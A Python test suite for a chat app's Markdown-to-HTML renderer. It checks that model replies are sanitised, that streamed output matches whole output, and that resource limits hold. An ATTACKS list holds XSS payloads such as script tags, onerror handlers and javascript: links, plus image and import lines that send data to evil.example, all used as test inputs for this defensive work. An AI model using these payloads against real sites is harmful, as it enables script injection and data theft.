"""Replies as HTML: what a model writes is shown well, never runs, and looks the same however it arrived."""

import re
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from django.utils.safestring import SafeString
from django.utils.translation import override
from hypothesis import example, given, settings
from hypothesis import strategies as st

from chat.render import LiveRenderer, render
from chat.render.allowance import Allowance
from tests.depth import search
from tests.markdown_texts import cuts, documents

TEXT = "p br hr em strong s code blockquote ul ol li h3 h4 h5 h6 div table thead tbody tr th td a"
TEXT_TAGS = set(TEXT.split())
TEXT_ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"},
    "ol": {"start"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "th": {"data-align"},
    "td": {"data-align"},
}
FIGURE = {"figure", "figcaption", "span", "button", "svg", "use", "pre"}
MATH = (
    "math mrow mi mo mn mtext mspace mstyle mpadded mphantom menclose mfrac msqrt mroot msub msup msubsup mover munder"
    " munderover mtable mtr mtd"
)
MATHML = set(MATH.split())


@pytest.fixture(autouse=True)
def in_english() -> Iterator[None]:
    with override("en"):
        yield


class Page(HTMLParser):
    """What a browser would find in the HTML: elements with their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]


def assert_only_text_markup(html: str) -> Page:
    page = Page(html)
    for tag, attributes in page.elements:
        assert tag in TEXT_TAGS, html
        assert set(attributes) <= TEXT_ATTRIBUTES.get(tag, set()), html
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"] or ""), html
    return page


def in_pieces(text: str, cuts: list[int]) -> tuple[str, LiveRenderer]:
    """What a viewer has on the page after the text came in pieces."""
    live, shown, last = LiveRenderer(), "", ""
    edges = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    for start, end in pairwise(edges):
        update = live.feed(text[start:end])
        shown += update.blocks
        last = update.open
    return shown + last, live


# What a reply looks like


def test_prose_becomes_plain_elements() -> None:
    html = render("Hello **you** and *you*, ~~not~~ `x < y`.\n\n> quoted\n\n3. three\n4. four\n\n---")
    assert "<p>Hello <strong>you</strong> and <em>you</em>, <s>not</s> <code>x &lt; y</code>.</p>" in html
    assert "<blockquote>\n<p>quoted</p>\n</blockquote>" in html
    assert '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n<hr>' in html
    assert isinstance(html, SafeString)


def test_headings_stay_below_those_of_the_thread() -> None:
    html = render("# a\n## b\n### c\n#### d\n##### e\n###### f\n\ng\n===")
    assert re.findall(r"<(h\d)>(\w)", html) == [
        *[("h3", "a"), ("h3", "b"), ("h4", "c"), ("h5", "d"), ("h6", "e"), ("h6", "f"), ("h3", "g")]
    ]


def test_a_table_scrolls_in_its_own_frame_and_aligns_without_style() -> None:
    page = assert_only_text_markup(render("| a | b | c | d |\n|:--|--:|:-:|---|\n| 1 | 2 | 3 | 4 |"))
    assert page.named("div") == [
        {"class": "prose__table", "tabindex": "0", "role": "region", "aria-label": "Table"}
    ]
    alignments: list[dict[str, str | None]] = [
        {"data-align": "left"},
        {"data-align": "right"},
        {"data-align": "center"},
        {},
    ]
    assert page.named("th") == alignments
    assert page.named("td") == alignments


def test_a_link_opens_beside_the_chat_and_tells_its_host_nothing() -> None:
    page = Page(render('[bank](https://example.com/a?b=1&c=2 "rates") <mailto:a@example.com>'))
    rel = "noopener noreferrer nofollow ugc"
    assert page.named("a") == [
        {"href": "https://example.com/a?b=1&c=2", "title": "rates", "target": "_blank", "rel": rel},
        {"href": "mailto:a@example.com", "target": "_blank", "rel": rel},
    ]


def test_a_picture_is_offered_as_a_link_and_never_fetched() -> None:
    page = assert_only_text_markup(render("See ![a cat](https://evil.example/cat.png?q=secret)!"))
    assert page.text == "See a cat!\n"
    assert [link["href"] for link in page.named("a")] == ["https://evil.example/cat.png?q=secret"]


def test_an_exclamation_before_a_real_link_stays() -> None:
    assert Page(render(r"Wow\![a](https://a.example)")).text == "Wow!a\n"
    assert Page(render("Wow! [a](https://a.example)")).text == "Wow! a\n"


# Code


def test_code_is_labelled_coloured_by_class_and_complete() -> None:
    source = 'def f(x: int) -> str:\n    """<b>Doc</b>"""\n    return f"{x} & more"  # why\n\n\nf(1)'
    html = render(f"Look:\n\n```python\n{source}\n```\n")
    page = Page(html)
    assert page.named("figure") == [{"class": "code"}]
    assert page.named("pre") == [{"tabindex": "0"}]
    assert [button["type"] for button in page.named("button") if "data-copy" in button] == ["button"]
    assert '<figcaption class="code__head"><span>Python</span>' in html
    assert 'icons.svg#copy"' in html
    assert '<span class="k">def</span> <span class="nf">f</span>(x: <span class="nb">int</span>)' in html
    assert "style" not in html
    assert Page(html[html.index("<pre") : html.index("</pre>")]).text == source


@pytest.mark.parametrize(
    ("info", "label"),
    [
        ("python", "Python"),
        ("JS", "JavaScript"),
        ("ts title=a.ts", "TypeScript"),
        ("{.cpp}", "C++"),
        ("c#", "C#"),
        ("sh", "Bash"),
        ("yml", "YAML"),
        ("dockerfile", "Dockerfile"),
        ("postgres", "PostgreSQL"),
        ("", "Text"),
        ("klingon", "Text"),
        ('"><script>', "Text"),
    ],
)
def test_a_language_goes_by_its_human_name(info: str, label: str) -> None:
    assert f'"code__head"><span>{label}</span>' in render(f"```{info}\n<a>\n```")


def test_unknown_languages_and_indented_code_are_shown_as_they_are() -> None:
    for text in ("```klingon\n<a> & b\n```", "    <a> & b\n"):
        html = render(text)
        assert "<code>&lt;a&gt; &amp; b</code>" in html
        assert "<span>Text</span>" in html


def test_code_in_a_list_stays_in_its_item() -> None:
    html = render("1. Install:\n   ```bash\n   export A=1\n   ```\n2. Run")
    assert re.search(r"<li>Install:<figure .*</figure>\s*</li>\n<li>Run</li>", html, re.DOTALL)


def test_code_that_no_person_writes_is_not_coloured() -> None:
    assert "<span class" not in render("```go\n" + '\\"' * 5_000 + "\n```")
    assert "<span class" not in render("```java\n" + "int a;\n" * 1_000 + "```")
    assert "<span class" not in render("```js\n" + "var a = 1;" * 100 + "\n```")


# Formulas


@pytest.mark.parametrize("text", ["the $x^2$ of", r"the \(x^2\) of"])
def test_a_formula_in_a_line_is_mathml(text: str) -> None:
    assert render(text) == "<p>the <math><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math> of</p>\n"


@pytest.mark.parametrize(
    "text", ["$$\nx^2\n$$", "$$x^2$$", "$$ x^2\n$$", "\\[\nx^2\n\\]", r"\[ x^2 \]", "  $$\n  x^2\n  $$"]
)
def test_a_formula_on_display_is_a_block(text: str) -> None:
    block = '<math display="block"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math>\n'
    assert render(text) == block
    assert render(f"before\n{text}\nafter") == f"<p>before</p>\n{block}<p>after</p>\n"


def test_a_formula_on_display_may_stand_in_a_sentence_a_list_and_a_quote() -> None:
    assert '<math display="block">' in render("so $$x$$ holds")
    assert '<math display="block">' in render(r"so \[x = 1\] holds")
    assert re.search(r"<li>So:\s*<math display", render("- So:\n  $$\n  x\n  $$"))
    assert re.search(r"<blockquote>\s*<math display", render("> $$\n> x\n> $$"))


def test_the_full_stop_of_the_sentence_stays_with_the_formula() -> None:
    assert render("$$\nx\n$$.") == '<math display="block"><mrow><mi>x</mi><mo>.</mo></mrow></math>\n'


@pytest.mark.parametrize(
    "text",
    [
        "Rp 5$ and 6$",
        "$5 and $6",
        "between $100k-$200k a month",
        "US$5 or US$6",
        "a $ b $ c",
        r"\$5 and \$6$",
        "only $x",
        "$$",
        "$$ is money",
        r"see \[1\] and \[note\]",
        r"\(",
        "`$x$`",
    ],
)
def test_prices_and_brackets_stay_text(text: str) -> None:
    assert "<math" not in render(text)


@pytest.mark.parametrize(
    "latex",
    [r"\frac{1", r"\unheardof{x}", "x_", "a & b", r"\left( x", "{" * 400 + "}" * 400, "x+" * 2_000 + "y"],
)
def test_what_cannot_be_drawn_is_shown_as_source(latex: str) -> None:
    assert Page(render(f"the ${latex}$ of")).text == f"the {latex} of\n"
    figure = render(f"$$\n{latex}\n$$")
    assert "<math" not in figure
    assert "<span>LaTeX</span>" in figure
    assert Page(figure[figure.index("<pre") :]).text.strip() == latex


@pytest.mark.parametrize("macro", [r"\newcommand{\aa}{xx}", r"\def\aa{xx}", r"\DeclareMathOperator{\aa}{xx}"])
def test_macros_are_not_expanded(macro: str) -> None:
    assert "<math" not in render(rf"${macro} \aa\aa$")


def test_aligned_equations_are_a_table() -> None:
    html = render("\\[\n\\begin{aligned}\na &= b \\\\\n  &= c\n\\end{aligned}\n\\]")
    assert html.count("<mtr>") == 2
    assert "&amp;" not in html


def test_a_formula_cannot_bring_markup_links_style_or_great_lengths() -> None:
    html = render(
        r"$\text{<img src=x onerror=alert(1)>}\href{javascript:alert(1)}{y}\style{position:fixed}{z}\class{dialog}{w}"
        r"\hspace{1000em}\unicode{3c}script\unicode{3e}\color{red}{v}$"
    )
    page = Page(html)
    assert {tag for tag, _ in page.elements} <= MATHML | {"p"}
    assert {name for _, attributes in page.elements for name in attributes} == set()
    assert "<img src=x onerror=alert(1)>" in page.text.replace("\xa0", " ")


# Nothing runs

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div hx-get='/logout' hx-trigger='load'>x</div>",
    "<form action=/delete><button hx-post='/delete'>x</button></form>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p title='</p><script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td><style><!--</style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](/logout)",
    "[x](//evil.example/a)",
    "[x](\\\\evil.example)",
    "[x](#id)",
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example/'onmouseover='alert(1)')",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://evil.example)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "[`<img src=x onerror=alert(1)>`](https://a.example)",
    "`<script>alert(1)</script>`",
    "a|b\n-|-\n<img src=x onerror=alert(1)>|[x](javascript:1)",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\ufeff<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_becomes_markup(attack: str) -> None:
    for text in (attack, f"- a\n  {attack}", f"**{attack}**"):
        assert_only_text_markup(render(text))


@pytest.mark.parametrize(
    "attack",
    [
        '```"onload="alert(1)\nx\n```',
        '```python"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
        "```html\n<script>alert(1)</script></code></pre></figure><script>alert(1)</script>\n```",
        "```php\n<?php echo '</pre><script>alert(1)</script>' ?>\n```",
        "    </code></pre><script>alert(1)</script>\n",
    ],
)
def test_no_attack_breaks_out_of_code(attack: str) -> None:
    harmless = Page(render("```\nx\n```"))
    page = Page(render(attack))
    spans = [element for element in page.elements if element[0] == "span"]
    assert all(re.fullmatch(r"[a-z]{1,2}", attributes.get("class") or "k") for _, attributes in spans)
    assert [e for e in page.elements if e[0] != "span"] == [e for e in harmless.elements if e[0] != "span"]


def test_the_marks_for_code_and_formulas_cannot_be_forged_and_are_never_shown() -> None:
    text = "0-0- 00000000000000000000000000000000-0- $x$ `0-0-`\n\n```python\n1\n```"
    html = render(text)
    assert html == render(text)
    assert html.count("<math") == html.count("<figure") == 1
    assert "00000000000000000000000000000000-0-" in html
    assert not re.search(r"[0-9a-f]{32}", html.replace("0" * 32, ""))


def test_nothing_of_the_writing_itself_is_in_the_html() -> None:
    live = LiveRenderer()
    assert "caret" not in live.feed("Hel").open
    assert live.feed("lo").open == "<p>Hello</p>\n"


# While it streams

FRAGMENTS = st.sampled_from(
    [
        *[
            "a",
            "b c",
            "para",
            "1",
            " ",
            "  ",
            "    ",
            "\t",
            "\n",
            "\n\n",
            "\r",
            "\r\n",
            "\n\n\n",
            "\0",
            "é",
            "\ud800",
        ],
        *[
            "#",
            "# ",
            "## h\n",
            "===",
            "---",
            "- ",
            "-",
            "* ",
            "1. ",
            "2) ",
            "> ",
            ">",
            "***",
            "+ x\n",
            "- x\n",
            "  y\n",
        ],
        *["```", "```py\n", "~~~\n", "```\n", "`", "``", "    code\n", "x = 1\n", "def f(): pass\n"],
        *["|", "a|b\n", "-|-\n", "|---|:-:|\n", "| a | b |\n", "c|d", "|--", "\\|", ":-:|-"],
        *[
            "$",
            "$$",
            "$$\n",
            "\\(",
            "\\)",
            "\\[",
            "\\]",
            "\\[\n",
            "\\]\n",
            "x^2",
            "\\frac",
            "{",
            "}",
            "$x$",
            "$$ y",
            "= 1",
        ],
        *[
            "**",
            "*",
            "_",
            "~~",
            "[",
            "](",
            ")",
            "]",
            "![",
            "<",
            "&amp;",
            "&",
            "\\",
            "<b>",
            "https://a.example",
            "<!--",
        ],
        *["[a]: https://b.example\n", "[a]", "[x](https://a.example)", "\\begin{aligned}", "&", "\\\\"],
    ]
)
TEXTS = st.lists(FRAGMENTS, max_size=30).map("".join)
CUTS = st.lists(st.integers(0, 200), max_size=12)


@settings(max_examples=300, deadline=None)
@given(text=TEXTS, cuts=CUTS)
@example(text="para\n# tag", cuts=[6])
@example(text="$$\na\n\nb\n$$", cuts=[2, 4, 6, 8])
@example(text="para\na | b\n-|- c", cuts=[14])
@example(text="a\r\nb\r\n\r\nc", cuts=[2, 5, 7])
@example(text="[a]\n\nb\n\n[a]: https://b.example", cuts=[8])
@example(text="- a\n\n\n- b\n\nc\n\n- d", cuts=[6, 10, 13])
def test_a_text_in_pieces_ends_as_the_text_as_a_whole(text: str, cuts: list[int]) -> None:
    whole = render(text)
    shown, live = in_pieces(text, cuts)
    assert shown == whole
    assert live.snapshot().blocks + live.snapshot().open == whole
    letter_by_letter, _ = in_pieces(text, list(range(len(text))))
    assert letter_by_letter == whole


@settings(search(150))
@given(data=st.data(), text=documents | TEXTS)
def test_at_every_cut_a_viewer_sees_the_text_so_far_as_if_it_came_whole(
    data: st.DataObject, text: str
) -> None:
    """Whether he was there from the start or comes just now; and each part he is sent is whole by itself."""
    live, shown, start = LiveRenderer(), "", 0
    for end in [*data.draw(cuts(text)), len(text)]:
        update = live.feed(text[start:end])
        shown, start = shown + update.blocks, end
        assert shown + update.open == render(text[:end])
        assert (live.snapshot().blocks, live.snapshot().open) == (shown, update.open)
        assert_is_whole(update.blocks)
        assert_is_whole(update.open)


@settings(search(100))
@given(
    data=st.data(),
    text=documents,
    effort=st.integers(0, 6_000),
    code=st.integers(0, 60),
    formulas=st.integers(0, 100),
)
def test_where_the_limits_fall_does_not_depend_on_the_cuts(
    data: st.DataObject, text: str, effort: int, code: int, formulas: int
) -> None:
    whole, live = (_with_limits(effort, code, formulas) for _ in range(2))
    at_once = whole.feed(text)
    shown, last, start = "", "", 0
    for end in [*data.draw(cuts(text)), len(text)]:
        update = live.feed(text[start:end])
        shown, last, start = shown + update.blocks, update.open, end
    assert shown + last == at_once.blocks + at_once.open


def _with_limits(effort: int, code: int, formulas: int) -> LiveRenderer:
    """Limits that a short text reaches."""
    live = LiveRenderer()
    live._effort, live._allowance = effort, Allowance(code, formulas * 5)
    return live


def assert_is_whole(html: str) -> None:
    """Every element ends in the fragment in which it begins, so that a page may add it as it is."""
    open_elements: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag not in {"br", "hr"}:
                open_elements.append(tag)

        def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            """Neither begins nor ends anything."""

        def handle_endtag(self, tag: str) -> None:
            assert open_elements.pop() == tag, html

    reader = Reader()
    reader.feed(html)
    reader.close()
    assert open_elements == [], html


@settings(search(150))
@given(text=documents | TEXTS | st.text(max_size=80))
def test_any_text_becomes_only_markup_of_our_choosing(text: str) -> None:
    page = Page(render(text))
    assert {tag for tag, _ in page.elements} <= TEXT_TAGS | FIGURE | MATHML
    assert not {name for _, attributes in page.elements for name in attributes} & {
        "style",
        "id",
        "onload",
        "src",
    }


def test_a_finished_block_is_given_out_once_and_only_the_open_one_again() -> None:
    live = LiveRenderer()
    first = live.feed("One\n\nTwo")
    assert (first.blocks, first.open) == ("", "<p>One</p>\n<p>Two</p>\n")
    second = live.feed(" goes on\n\nThree")
    assert (second.blocks, second.open) == ("<p>One</p>\n", "<p>Two goes on</p>\n<p>Three</p>\n")
    third = live.feed("\n")
    assert (third.blocks, third.open) == ("<p>Two goes on</p>\n", "<p>Three</p>\n")
    nothing = live.feed("")
    assert (nothing.blocks, nothing.open) == ("", "<p>Three</p>\n")
    late = live.snapshot()
    assert (late.blocks, late.open) == ("<p>One</p>\n<p>Two goes on</p>\n", "<p>Three</p>\n")
    assert all(isinstance(part, SafeString) for part in (third.blocks, third.open, late.blocks, late.open))


def test_before_the_first_word_there_is_nothing() -> None:
    assert (LiveRenderer().snapshot().blocks, LiveRenderer().snapshot().open) == ("", "")
    assert render("") == ""


def test_an_unfinished_line_finishes_no_block() -> None:
    live = LiveRenderer()
    assert live.feed("para\n#").blocks == ""
    assert live.feed("tag\n\nend\n").blocks == "<p>para\n#tag</p>\n"


def test_a_later_formula_cannot_swallow_what_was_given_out() -> None:
    live = LiveRenderer()
    shown = live.feed("$$\na\n\nb\n\n").blocks
    assert shown == "<p>$$\na</p>\n"
    assert live.feed("$$\n").blocks == "<p>b</p>\n"


def test_a_long_reply_costs_its_length_and_not_its_square() -> None:
    live = LiveRenderer()
    started = time.thread_time()
    for number in range(1_500):
        live.feed(f"Paragraph {number} has *some* words.\n\n")
    assert time.thread_time() - started < 5


def test_replies_are_rendered_in_many_threads_at_once() -> None:
    texts = [f"# {n}\n\n- $x_{n}$\n\n```python\nx = {n}\n```\n\na|b\n-|-\n{n}|**{n}**\n" for n in range(40)]
    alone = [render(text) for text in texts]
    with ThreadPoolExecutor(8) as pool:
        # Another thread has a language of its own, so the labels may differ.
        together = list(pool.map(lambda text: _in_english(text), texts))
    assert together == alone


def _in_english(text: str) -> str:
    with override("en"):
        return render(text)


# Limits


def test_a_text_above_the_limit_goes_on_as_plain_text() -> None:
    html = render("a" * (256 * 1024) + "**<b>**\nx")
    assert html.endswith('a</p>\n<p class="prose__plain">**&lt;b&gt;**\nx</p>\n')
    shown, _ = in_pieces("word <b>\n\n" * 30_000, [100, 200_000, 290_000])
    assert shown == render("word <b>\n\n" * 30_000)
    assert Page(shown).text.count("word <b>") == 30_000


@pytest.mark.parametrize(
    "pattern",
    [
        *[
            "[",
            "[a](",
            "*a **b ",
            "_*",
            "`",
            "$x ",
            "\\(",
            "<http://a>",
            "&",
            "> ",
            "- a\n",
            "a|b\n-|-\n",
            "|a",
            "# a\n",
        ],
        *["a\n\n", "$$\na\n$$\n\n", "```python\nx=1\n```\n", "  - a\n", "![", "\\[=", "~~a"],
    ],
)
def test_a_hostile_text_takes_no_longer_than_a_long_one(pattern: str) -> None:
    text = pattern * (80_000 // len(pattern))
    started = time.thread_time()
    render(text)
    assert time.thread_time() - started < 5


def test_many_formulas_and_much_code_are_drawn_up_to_an_allowance() -> None:
    text = "".join(f"$x_{{{n}}}$ " for n in range(4_000))
    started = time.thread_time()
    html = render(text)
    assert time.thread_time() - started < 5
    assert 1_000 < html.count("<math") < 3_000
    assert html.count("<math") + html.count("<code>") == 4_000
    shown, _ = in_pieces(text, [3_000, 20_000])
    assert shown == html


def test_a_table_with_missing_cells_is_not_blown_up() -> None:
    text = "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + "|a\n" * 600
    assert len(render(text)) < 20 * len(text)


def test_deep_nesting_ends_somewhere() -> None:
    assert render(">" * 3_000 + "a").count("<blockquote>") < 30
    assert render("".join("  " * depth + "- a\n" for depth in range(200))).count("<ul>") < 30


def test_bytes_that_html_cannot_carry_are_left_out() -> None:
    assert render("a\0b") == "<p>ab</p>\n"
    assert render("a\ud83d") == "<p>a\ufffd</p>\n"
